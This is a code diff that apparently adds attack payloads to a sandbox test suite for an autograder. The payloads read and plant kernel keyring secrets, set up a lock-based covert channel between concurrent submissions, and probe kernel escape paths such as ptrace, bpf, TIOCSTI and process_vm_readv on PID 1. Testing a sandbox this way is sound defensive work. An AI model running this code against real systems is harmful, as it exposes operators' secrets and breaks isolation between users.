@@ -269,6 +269,195 @@ for arg in sys.argv[1:]:
         os.write(int(arg), b'{"event":' + b"[" * 100000 + b"]" * 100000 + b"}\\n")
 '''
 
+# The kernel's keyrings are not namespaced: the keyring calls through ctypes (Python has none).
+KEYRING_CALLS = '''
+import ctypes, os, struct
+_libc = ctypes.CDLL(None, use_errno=True)
+_ADD_KEY, _KEYCTL = {"x86_64": (248, 250)}.get(os.uname().machine, (217, 219))
+USER, SESSION, OPEN = -4, -3, 0x3f3f3f3f  # @u, @s, every permission to every user
+def _call(number, *args):
+    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
+    result = _libc.syscall(ctypes.c_long(number), *args)
+    if result < 0:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    return result
+def add_key(kind, name, payload, keyring):
+    return _call(_ADD_KEY, kind.encode(), name.encode(), payload, len(payload or b""), keyring)
+def keyctl(option, *args):
+    return _call(_KEYCTL, option, *args)
+def keyctl_bytes(option, serial):
+    buffer = ctypes.create_string_buffer(4096)
+    size = keyctl(option, serial, buffer, 4096)
+    return buffer.raw[:min(size, 4096)]
+'''
+
+KEYRING_PLANT = KEYRING_CALLS + '''
+# Plant keys opened to every user, for a later or a concurrent submission to read.
+def plant(name, keyring):
+    serial = add_key("user", name, b"secret-of-HSA_MARKER", keyring)
+    keyctl(5, serial, OPEN)  # KEYCTL_SETPERM
+    return serial
+def plant_ring():
+    ring = add_key("keyring", "HSA_MARKER-ring", None, USER)  # a named keyring in @u
+    keyctl(5, ring, OPEN)
+    return plant("HSA_MARKER-inring", ring)
+for what, plant_it in (("an open key in the user keyring", lambda: plant("HSA_MARKER-open", USER)),
+                       ("a named keyring linked into the user keyring", plant_ring),
+                       ("a key in the session keyring", lambda: plant("HSA_MARKER-ses", SESSION))):
+    try:
+        print("planted", what, plant_it())
+    except OSError as error:
+        print("could not plant", what + ":", error)
+'''
+
+KEYRING_READ = KEYRING_CALLS + '''
+# Read every key in reach: those any user may read (listed in /proc/keys), the session keyring
+# (inherited from the grader: an operator's keys) and the user keyring (as a user: the grader's).
+# A submission graded at the same time may plant its keys a little later: look for 1.5 s.
+import time
+def serials():
+    found = [int(line.split()[0], 16) for line in open("/proc/keys")]
+    for keyring in (USER, SESSION):
+        try:
+            listed = keyctl_bytes(11, keyring)  # KEYCTL_READ of a keyring: its keys' serials
+            found += list(struct.unpack(f"{len(listed) // 4}i", listed))
+        except OSError as error:
+            refused[keyring] = error
+    return list(dict.fromkeys(found))
+def read_all():
+    seen = {}
+    for serial in serials():
+        try:
+            described = keyctl_bytes(6, serial).rstrip(b"\\0").decode().split(";")
+            if described[0] in ("user", "logon", "big_key"):  # "type;uid;gid;perm;name"
+                seen[described[-1]] = keyctl_bytes(11, serial)
+        except OSError as error:
+            refused[serial] = error
+    return seen
+refused, until = {}, time.time() + 1.5
+seen = read_all()
+while not any("HSA_MARKER" in name for name in seen) and time.time() < until:
+    time.sleep(0.1)
+    seen = read_all()
+for name, payload in seen.items():
+    print("read", name, "=", payload)
+for what, error in refused.items():
+    print("could not read", {USER: "the user keyring", SESSION: "the session keyring"}.get(
+        what, f"key {what:#x}") + ":", error)
+'''
+
+FILE_LOCKS = '''
+# Signal to a concurrent submission through a file both can open, the standard library's: a
+# lock one holds the other sees (flock, an fcntl record lock, an open file description lock);
+# an inotify watch sees the other open it.
+import ctypes, errno, fcntl, os, struct, time
+fd = os.open(os.__file__, os.O_RDONLY)
+lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 0, 0)
+test = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
+F_OFD_GETLK, F_OFD_SETLK = 36, 37
+held, seen = {}, set()
+def take(kind, how):
+    try:
+        how()
+        held[kind] = "held"
+    except BlockingIOError:
+        seen.add(kind)
+    except OSError as error:
+        held[kind] = f"refused ({error})"
+def sees(kind, getlk):
+    if struct.unpack("hhqqi4x", fcntl.fcntl(fd, getlk, test))[0] != fcntl.F_UNLCK:
+        seen.add(kind)
+until = time.time() + 6
+while time.time() < until:
+    if "flock" not in held:
+        take("flock", lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB))
+    for kind, setlk, getlk in (("fcntl", fcntl.F_SETLK, fcntl.F_GETLK),
+                               ("ofd", F_OFD_SETLK, F_OFD_GETLK)):
+        if kind not in held:
+            take(kind, lambda: fcntl.fcntl(fd, setlk, lock))
+        if held.get(kind) == "held":
+            sees(kind, getlk)
+    if all(state.startswith("refused") for state in held.values()) and len(held) == 3:
+        break
+    time.sleep(0.05)
+libc = ctypes.CDLL(None, use_errno=True)
+watch = libc.inotify_init1(0)
+print("inotify:", "watching" if watch >= 0 else f"refused ({os.strerror(ctypes.get_errno())})")
+for kind in ("flock", "fcntl", "ofd"):
+    print(kind + ":", held.get(kind, "never taken"))
+print("saw a neighbour's lock:", ", ".join(sorted(seen)) or "none")
+'''
+
+KERNEL_SURFACE = '''
+# The kernel's attack surface: a user namespace with every capability and a mount in it,
+# io_uring, userfaultfd, perf events, bpf, ptrace, reading the sandbox's PID 1, personality,
+# clone3, typing into a terminal, a socket to the virtual machine's host. (Harmless where it
+# works: run_attacks.py runs it in otter's kernel too, as the grader's user.)
+import ctypes, fcntl, os, pty, socket
+libc = ctypes.CDLL(None, use_errno=True)
+arm = os.uname().machine == "aarch64"
+NR = dict(unshare=(272, 97), io_uring_setup=(425, 425), userfaultfd=(323, 282),
+          perf_event_open=(298, 241), bpf=(321, 280), ptrace=(101, 117),
+          process_vm_readv=(310, 270), personality=(135, 92), clone3=(435, 435))
+def said(result):
+    return "allowed" if result >= 0 else f"refused ({os.strerror(ctypes.get_errno())})"
+def call(name, *args):
+    return said(libc.syscall(ctypes.c_long(NR[name][arm]), *[ctypes.c_long(a) for a in args]))
+perf = bytearray(128)
+perf[0], perf[4] = 1, 128  # perf_event_attr: a software event (the CPU clock), its size
+perf = ctypes.create_string_buffer(bytes(perf), 128)
+params, word = ctypes.create_string_buffer(120), ctypes.create_string_buffer(8)
+vec = (ctypes.c_long * 2)(ctypes.addressof(word), 8)
+nested = call("unshare", 0x10000000 | 0x40000000 | 0x00020000)
+print("unshare(user, net, mount):", nested)
+# with every capability in the new namespaces, a tmpfs of its own on /tmp; else (as root under
+# otter run, say) only where nothing can be covered
+target = b"/tmp" if nested == "allowed" else b"/nonexistent"
+print("mount tmpfs:", said(libc.mount(b"tmpfs", target, b"tmpfs", 0, None)))
+print("io_uring_setup:", call("io_uring_setup", 4, ctypes.addressof(params)))
+print("userfaultfd:", call("userfaultfd", 1))  # UFFD_USER_MODE_ONLY
+print("perf_event_open:", call("perf_event_open", ctypes.addressof(perf), 0, -1, -1, 0))
+print("bpf:", call("bpf", 0, 0, 0))
+def traced():
+    """PTRACE_TRACEME in a child of its own (traced, the worker itself would stop at its
+    next signal), which reports the outcome in its exit code."""
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0 if libc.syscall(ctypes.c_long(NR["ptrace"][arm]), 0, 0, 0, 0) == 0
+                 else ctypes.get_errno())
+    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+    return "allowed" if code == 0 else f"refused ({os.strerror(code)})"
+print("ptrace(PTRACE_TRACEME):", traced())
+print("process_vm_readv(PID 1):", call("process_vm_readv", 1, ctypes.addressof(vec), 1,
+                                        ctypes.addressof(vec), 1, 0))
+print("personality(ADDR_NO_RANDOMIZE):", call("personality", 0x0040000))
+print("clone3:", call("clone3", 0, 0))
+def type_into_a_terminal():
+    """TIOCSTI into a pty of its own, made its controlling terminal in a session of its own."""
+    leader, follower = pty.openpty()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.setsid()
+            os.close(os.open(os.ttyname(follower), os.O_RDWR))  # now the controlling terminal
+            fcntl.ioctl(follower, 0x5412, b"x")
+            os._exit(0)
+        except OSError as error:
+            os._exit(error.errno)
+    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+    if code:
+        raise OSError(code, os.strerror(code))
+for what, attempt in (("the grader's terminal", lambda: open("/dev/tty", "rb")),
+                      ("TIOCSTI", type_into_a_terminal),
+                      ("AF_VSOCK socket", lambda: socket.socket(40, socket.SOCK_STREAM))):
+    try:
+        attempt()
+        print(what + ":", "allowed")
+    except OSError as error:
+        print(what + ":", f"refused ({error.strerror})")
+'''
+
 ATTACKS = [
     Attack("otter-patch-run", "monkeypatch otter's ExceptionTestFile.run to pass everything",
            OTTER_PATCH_RUN, "first"),
@@ -316,6 +505,15 @@ ATTACKS = [
     Attack("protocol-deep-nesting", "one message nested 100 000 deep on the grader's fd",
            PROTOCOL_DEEP_NESTING, "last", base="master"),
     Attack("not-a-notebook", "a text file named .ipynb", NOT_A_NOTEBOOK, "file"),
+    Attack("keyring-plant", "add keys opened to all users to the user and session keyrings",
+           KEYRING_PLANT, "last"),
+    Attack("keyring-read", "read every key in reach: /proc/keys, the session and user keyrings",
+           KEYRING_READ, "last"),
+    Attack("file-locks", "flock, fcntl and OFD locks and inotify on the standard library's files",
+           FILE_LOCKS, "last"),
+    Attack("kernel-surface", "unshare a user namespace, mount, io_uring, userfaultfd, perf, bpf, "
+           "ptrace, process_vm_readv, personality, clone3, TIOCSTI, AF_VSOCK", KERNEL_SURFACE,
+           "last"),
 ]
 
 BY_NAME = {attack.name: attack for attack in ATTACKS}
